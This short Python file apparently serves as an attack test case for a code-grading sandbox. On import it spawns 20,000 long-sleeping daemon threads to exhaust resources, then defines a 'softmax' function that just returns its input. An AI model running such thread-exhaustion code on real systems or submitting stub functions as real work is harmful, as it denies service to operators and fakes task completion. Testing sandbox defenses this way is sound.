"""Attack: start thousands of threads."""
import threading
import time

try:
    for _ in range(20000):
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
except RuntimeError:
    pass


def softmax(x, dim=-1):
    return x
